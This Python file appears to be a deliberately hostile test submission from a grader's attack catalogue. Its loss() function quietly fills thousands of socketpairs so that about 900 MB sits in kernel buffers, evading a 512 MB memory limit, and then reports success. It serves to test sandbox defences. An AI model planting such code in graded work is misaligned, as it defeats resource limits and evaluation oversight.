"""Hostile submission (gradverify attack catalogue): memory held in the kernel's socket buffers.

Bytes written into a socketpair and never read live in the kernel, charged to no process's
address space or resident set; each pair holds a few hundred KB, and the descriptor limit
(raised to its hard limit) allows thousands of pairs. The attack stops at 900 MB, where
the submission may have 512 MB.
"""

import resource
import socket
import time

import numpy as np

TARGET_MB = 900


def _fill(sock, chunk):
    sent = 0
    sock.setblocking(False)
    while True:
        try:
            sent += sock.send(chunk)
        except (BlockingIOError, InterruptedError):
            return sent


def _hold():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 16384), hard))
    except (ValueError, OSError):
        pass
    chunk = b"\1" * 65536
    pairs, held = [], 0
    try:
        while held < TARGET_MB << 20:
            a, b = socket.socketpair()
            pairs.append((a, b))
            held += _fill(a, chunk) + _fill(b, chunk)
    except OSError as exc:
        print(f"stopped after {held >> 20} MB in {len(pairs)} pairs: {exc}")
    if held >= 800 << 20:
        print(f"ATTACK-SUCCEEDED: {held >> 20} MB held in {len(pairs)} socket pairs", flush=True)
    time.sleep(0.5)
    for a, b in pairs:
        a.close()
        b.close()


def loss(name, y_pred, y_true):
    _hold()
    return float(np.mean((y_pred - y_true) ** 2))


def loss_backward(name, y_pred, y_true):
    return 2.0 * (y_pred - y_true) / y_pred.size
